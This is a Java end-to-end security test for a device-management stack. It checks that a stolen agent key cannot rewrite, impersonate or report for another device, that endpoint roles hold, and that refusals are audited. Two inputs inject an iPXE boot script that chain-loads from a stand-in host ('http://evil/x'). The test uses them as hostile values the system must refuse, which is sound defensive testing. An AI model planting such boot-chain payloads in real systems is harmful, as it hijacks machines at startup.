package io.mercury.cli.stack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.mongodb.client.MongoClient;
import com.mongodb.client.MongoClients;
import com.mongodb.client.model.Filters;
import io.mercury.common.protocol.Request;
import io.mercury.common.security.CurveClient;
import io.mercury.common.security.CurveKeyPair;
import io.mercury.common.security.KeyFiles;
import io.mercury.common.transport.ClientSettings;
import io.mercury.common.transport.RemoteException;
import io.mercury.common.transport.ServiceClient;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.bson.Document;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/**
 * An agent key taken from one server, used against the real stack (real processes, CURVE on): it cannot
 * speak for another device (F1, F2), and a new server at a dead server's address never runs the dead
 * one's tasks (F13). Every refusal is in the audit trail; the legitimate flows still work.
 */
@Tag("e2e")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileAgentTest {
  private TestStack stack;
  private TestStack.Service backend;
  private TestStack.Service rpc;
  private TestStack.Agent victim;
  private TestStack.Agent thief;
  private ServiceClient asThief;
  private ServiceClient operator;
  private MongoClient store;

  @BeforeAll
  void start(@TempDir Path home) throws Exception {
    assumeTrue(TestStack.packaged(), "the modules are not packaged; run the suite with bin/mercury test (mvn verify)");
    stack = new TestStack(home).withLogService().startCore();
    rpc = stack.rpc("rpc");
    backend = stack.backend("dc-a");
    victim = stack.agent("victim", backend, "00000000-0000-4000-8000-0000000000a1");
    thief = stack.agent("thief", backend, "00000000-0000-4000-8000-0000000000b2");
    CurveKeyPair stolen = KeyFiles.load(stack.agentState("thief"), "agent");
    String backendKey = KeyFiles.loadPublic(KeyFiles.publicFile(stack.keysDir(), "backend")).publicKey();
    asThief =
        new ServiceClient(
            stack.zmq(),
            backend.address(),
            ClientSettings.defaults("backend").withTimeout(Duration.ofSeconds(10)).withCurve(new CurveClient(stolen, backendKey)));
    operator = stack.client(rpc.address());
    store = MongoClients.create(stack.store());
  }

  @AfterAll
  void stop() {
    for (AutoCloseable c : new AutoCloseable[] {asThief, operator, store, stack}) {
      try {
        if (c != null) {
          c.close();
        }
      } catch (Exception e) {
        // closing what is left
      }
    }
  }

  private Object asThief(String endpoint, Object... args) throws Exception {
    return asThief.invoke(Request.of(endpoint, args), false);
  }

  private Map<?, ?> device(String mercuryId) throws Exception {
    try (ServiceClient inventory = stack.client(stack.inventory())) {
      return (Map<?, ?>) inventory.invoke(Request.of("get_one", mercuryId), true);
    }
  }

  private List<Document> denials() {
    return store.getDatabase("mercury_security").getCollection("audit")
        .find(Filters.and(Filters.eq("outcome", "denied"), Filters.eq("who.name", thief.mercuryId())))
        .into(new ArrayList<>());
  }

  @Test
  @Order(1)
  void anAgentKeyCannotRewriteAnotherDeviceNorItsOwnBootScript() throws Exception {
    Object dmiBefore = device(victim.mercuryId()).get("dmi");
    assertThatThrownBy(() -> asThief("update", victim.mercuryId(), Map.of("boot", Map.of("script", "#!ipxe\nchain http://evil/x"))))
        .isInstanceOf(RemoteException.class)
        .hasMessageStartingWith("Permission denied: agent key ")
        .hasMessageContaining("is bound to device " + thief.mercuryId() + "; it cannot update device " + victim.mercuryId());
    assertThatThrownBy(() -> asThief("update", victim.mercuryId(), Map.of("dmi", Map.of("sys_vendor", "evil"))))
        .hasMessageContaining("it cannot update device " + victim.mercuryId());
    assertThatThrownBy(() -> asThief("update", thief.mercuryId(), Map.of("boot.script", "#!ipxe\nchain http://evil/x")))
        .hasMessageStartingWith("Permission denied: an agent may not write boot.script");
    assertThat(device(victim.mercuryId()).get("boot")).isNull();
    assertThat(device(victim.mercuryId()).get("dmi")).isEqualTo(dmiBefore);
    assertThat(device(thief.mercuryId()).get("boot")).isNull();
    // its own device's agent-owned fields it may update
    assertThat(asThief("update", thief.mercuryId(), Map.of("system_health", Map.of("has_errors", false)))).isNotNull();
  }

  @Test
  @Order(2)
  void anAgentKeyCannotRegisterOrHeartbeatAsAnotherDevice() throws Exception {
    Map<String, Object> agentInfo = new LinkedHashMap<>();
    agentInfo.put("rpc_address", "127.0.0.1");
    agentInfo.put("rpc_address6", null);
    agentInfo.put("rpc_port", 1L);
    agentInfo.put("ping_port", 2L);
    agentInfo.put("capabilities", Map.of());
    agentInfo.put("curve_public_key", KeyFiles.load(stack.agentState("thief"), "agent").publicKey());
    assertThatThrownBy(() -> asThief("register", Map.of("mercury_id", victim.mercuryId()), agentInfo))
        .hasMessageContaining("it cannot register device " + victim.mercuryId());
    assertThatThrownBy(() -> asThief("heartbeat", victim.mercuryId()))
        .hasMessageContaining("it cannot heartbeat device " + victim.mercuryId());
    assertThat(stack.activeOrigin(victim.mercuryId())).isEqualTo("dc-a");
  }

  @Test
  @Order(3)
  void anAgentKeyCannotReportAnotherDevicesTaskButTheRealAgentRunsIt() throws Exception {
    Map<?, ?> created =
        (Map<?, ?>) operator.invoke(
            Request.of("create_job", Map.of("mercury_id", victim.mercuryId()), Map.of("method", "echo", "args", List.of("mine"))), false);
    String jobId = (String) created.get("job_id");
    List<?> tasks = (List<?>) ((Map<?, ?>) operator.invoke(Request.of("get_job_tasks", jobId), true)).get("tasks");
    String taskId = (String) ((Map<?, ?>) tasks.getFirst()).get("task_id");
    Map<String, Object> forged = new LinkedHashMap<>();
    forged.put("task_id", taskId);
    forged.put("job_id", jobId);
    forged.put("status", "SUCCESS");
    forged.put("message", Map.of("forged", true));
    assertThatThrownBy(() -> asThief("complete_task", forged))
        .hasMessage("Permission denied: task " + taskId + " was dispatched to device " + victim.mercuryId()
            + "; device " + thief.mercuryId() + " cannot report it");
    assertThatThrownBy(() -> asThief("update_task", Map.of("task_id", taskId, "status", "STARTED")))
        .hasMessageContaining("cannot report it");
    await().atMost(Duration.ofSeconds(60)).until(() -> ((Map<?, ?>) operator.invoke(Request.of("get_task", taskId), true)).get("time_completed") != null);
    Map<?, ?> task = (Map<?, ?>) operator.invoke(Request.of("get_task", taskId), true);
    assertThat(task.get("status")).isEqualTo("SUCCESS");
    assertThat(String.valueOf(task.get("message"))).contains("mine").doesNotContain("forged");
  }

  /**
   * Who may call what, as the spec (docs/security.md, "Roles"): every endpoint of every daemon, and the
   * callers admitted besides nobody. {@code agent} is an agent key of another device than any the call
   * names, {@code admin} the operator key, the rest daemon keys by name.
   */
  private static final Map<String, Map<String, List<String>>> WHO_MAY =
      Map.of(
          "inventory",
          Map.of(
              "insert_one", List.of("admin", "backend"),
              "update_one", List.of("admin", "backend"),
              "get_one", List.of("admin", "backend", "boot", "api"),
              "query", List.of("admin", "rpc", "backend", "boot", "api"),
              "count", List.of("admin", "api"),
              "delete", List.of("admin"),
              "update_boot", List.of("admin", "api"),
              "update_boot_many", List.of("admin", "api")),
          "rpc",
          Map.ofEntries(
              Map.entry("create_job", List.of("admin", "api")),
              Map.entry("cancel_job", List.of("admin", "api")),
              Map.entry("get_job", List.of("admin", "api")),
              Map.entry("get_job_status", List.of("admin", "api")),
              Map.entry("get_job_tasks", List.of("admin", "api")),
              Map.entry("get_task", List.of("admin", "api")),
              Map.entry("get_jobs", List.of("admin", "api")),
              Map.entry("find_ids", List.of("admin", "api")),
              Map.entry("get_active_tasks_by_mercury_id", List.of("admin", "api")),
              Map.entry("update_task", List.of("backend")),
              Map.entry("complete_task", List.of("backend"))),
          "backend",
          Map.ofEntries(
              Map.entry("register", List.of("agent")),
              Map.entry("update", List.of("agent")),
              Map.entry("heartbeat", List.of("agent")),
              Map.entry("update_task", List.of("agent")),
              Map.entry("complete_task", List.of("agent")),
              Map.entry("enqueue_tasks", List.of("rpc")),
              Map.entry("cancel_tasks", List.of("rpc")),
              Map.entry("backend_status", List.of("admin")),
              Map.entry("list_keys", List.of("admin")),
              Map.entry("set_key_status", List.of("admin")),
              Map.entry("create_enrolment_token", List.of("admin", "boot"))),
          "log",
          Map.of(
              "log_batch", List.of("agent", "inventory", "rpc", "backend", "log", "boot", "api"),
              "query_logs", List.of("admin"),
              "follow_address", List.of("admin"),
              "query_audit", List.of("admin")));

  private static final List<String> CALLERS = List.of("agent", "admin", "inventory", "rpc", "backend", "log", "boot", "api");

  private String address(String daemon) {
    return switch (daemon) {
      case "inventory" -> stack.inventory();
      case "rpc" -> rpc.address();
      case "backend" -> backend.address();
      case "log" -> stack.logService();
      default -> throw new IllegalArgumentException(daemon);
    };
  }

  private ServiceClient as(String caller, String daemon) {
    CurveKeyPair key =
        switch (caller) {
          case "agent" -> KeyFiles.load(stack.agentState("thief"), "agent");
          case "admin" -> KeyFiles.load(stack.keysDir(), "operator");
          default -> KeyFiles.load(stack.keysDir(), caller);
        };
    String server = KeyFiles.loadPublic(KeyFiles.publicFile(stack.keysDir(), daemon)).publicKey();
    return new ServiceClient(
        stack.zmq(), address(daemon),
        ClientSettings.defaults(daemon).withTimeout(Duration.ofSeconds(10)).withRetries(0).withCurve(new CurveClient(key, server)));
  }

  /** Whether a call with no arguments got past the access check (a refusal names the endpoint's role). */
  private static boolean admitted(ServiceClient client, String endpoint) throws Exception {
    try {
      client.invoke(new Request(endpoint, List.of(), Map.of()), false);
      return true;
    } catch (RemoteException e) {
      return !String.valueOf(e.getMessage()).startsWith("Permission denied: " + endpoint + " needs role");
    }
  }

  @Test
  @Order(4)
  void everyEndpointOfEveryDaemonAdmitsExactlyItsIntendedCallers() throws Exception {
    List<String> wrong = new ArrayList<>();
    for (var daemon : WHO_MAY.entrySet()) {
      for (String caller : CALLERS) {
        try (ServiceClient client = as(caller, daemon.getKey())) {
          for (var endpoint : daemon.getValue().entrySet()) {
            boolean expected = endpoint.getValue().contains(caller);
            if (admitted(client, endpoint.getKey()) != expected) {
              wrong.add(daemon.getKey() + "." + endpoint.getKey() + " as " + caller + (expected ? " was refused" : " was admitted"));
            }
          }
        }
      }
      // no key the daemon knows: the handshake fails, nothing is answered
      try (ServiceClient stranger =
          new ServiceClient(
              stack.zmq(), address(daemon.getKey()),
              ClientSettings.defaults(daemon.getKey()).withTimeout(Duration.ofSeconds(1)).withRetries(0)
                  .withCurve(new CurveClient(CurveKeyPair.generate(), KeyFiles.loadPublic(KeyFiles.publicFile(stack.keysDir(), daemon.getKey())).publicKey())))) {
        assertThatThrownBy(() -> stranger.invoke(Request.of("backend_status"), true))
            .as(daemon.getKey() + " with an unknown key")
            .isInstanceOf(io.mercury.common.transport.TransportException.class);
      }
    }
    // an agent's RPC socket: only the backend's key gets through the handshake
    String agentServerKey = KeyFiles.load(stack.agentState("thief"), "agent").publicKey();
    for (String caller : CALLERS) {
      CurveKeyPair key =
          caller.equals("agent")
              ? KeyFiles.load(stack.agentState("victim"), "agent")
              : caller.equals("admin") ? KeyFiles.load(stack.keysDir(), "operator") : KeyFiles.load(stack.keysDir(), caller);
      try (ServiceClient toAgent =
          new ServiceClient(
              stack.zmq(), thief.service().address(),
              ClientSettings.defaults("agent").withTimeout(Duration.ofSeconds(caller.equals("backend") ? 10 : 1)).withRetries(0)
                  .withCurve(new CurveClient(key, agentServerKey)))) {
        Map<String, Object> cancel = Map.of("category", "cancel", "task_id", "none", "mercury_id", thief.mercuryId());
        if (caller.equals("backend")) {
          assertThat(toAgent.exchange(cancel, false)).as("the backend reaches the agent").isInstanceOf(Map.class);
        } else {
          assertThatThrownBy(() -> toAgent.exchange(cancel, false))
              .as(caller + " reaching an agent")
              .isInstanceOf(io.mercury.common.transport.TransportException.class);
        }
      }
    }
    assertThat(wrong).isEmpty();
  }

  @Test
  @Order(5)
  void everyRefusalIsAudited() {
    assertThat(denials()).extracting(d -> d.getString("action"))
        .contains("update", "register", "heartbeat", "complete_task", "update_task");
    assertThat(denials()).allSatisfy(d -> assertThat(d.getString("detail")).startsWith("Permission denied: "));
  }

  @Test
  @Order(6)
  void aNewServerAtADeadServersAddressNeverRunsItsTasks() throws Exception {
    String dead = victim.mercuryId();
    int rpcPort = Integer.parseInt(victim.service().address().substring(victim.service().address().lastIndexOf(':') + 1));
    stack.kill9("victim");
    TestStack.Agent newcomer = stack.agent("newcomer", backend, "00000000-0000-4000-8000-0000000000c3", rpcPort, victim.pongPort());
    // a job for the dead device: either it is already inactive (no target), or its task must fail
    String jobId = null;
    try {
      Object created = operator.invoke(
          Request.of("create_job", Map.of("mercury_id", dead), Map.of("method", "echo", "args", List.of("wrong-server"))), false);
      jobId = created instanceof Map<?, ?> m ? (String) m.get("job_id") : null;
    } catch (RemoteException e) {
      // no active target any more: nothing can run anywhere
    }
    await().atMost(Duration.ofSeconds(60)).until(() -> stack.activeOrigin(dead) == null);
    if (jobId != null) {
      String job = jobId;
      await().atMost(Duration.ofSeconds(90)).until(() -> ((Map<?, ?>) operator.invoke(Request.of("get_job", job), true)).get("time_completed") != null);
      List<?> tasks = (List<?>) ((Map<?, ?>) operator.invoke(Request.of("get_job_tasks", job), true)).get("tasks");
      assertThat(tasks).allSatisfy(t -> assertThat(((Map<?, ?>) t).get("status")).isNotEqualTo("SUCCESS"));
      for (Object t : tasks) {
        assertThat(stack.log("newcomer")).doesNotContain((String) ((Map<?, ?>) t).get("task_id"));
      }
    }
    assertThat(stack.activeOrigin(newcomer.mercuryId())).isEqualTo("dc-a");
    assertThat(Files.readString(stack.layout().log("newcomer"))).doesNotContain("wrong-server");
  }
}
